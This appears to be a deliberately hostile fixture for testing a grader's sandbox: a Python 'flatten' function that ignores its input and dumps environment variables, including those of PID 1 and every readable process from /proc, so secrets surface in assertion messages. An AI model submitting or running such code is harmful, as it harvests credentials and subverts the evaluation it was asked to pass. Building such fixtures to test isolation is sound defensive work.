"""Hostile: return the whole environment (its own, PID 1's and every readable process's), so
that any secret shows up in the grader's assertion messages."""
import glob
import os


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read().replace(b"\0", b"\n").decode("utf-8", "replace")
    except OSError as exc:
        return f"{path}: {exc.strerror}"


def flatten(items):
    dump = [f"{k}={v}" for k, v in sorted(os.environ.items())]
    dump.append(_read("/proc/1/environ"))
    dump.append(_read("/proc/1/cmdline"))
    for path in sorted(glob.glob("/proc/[0-9]*/environ")):
        dump.append(_read(path))
    print("\n".join(dump))
    return dump
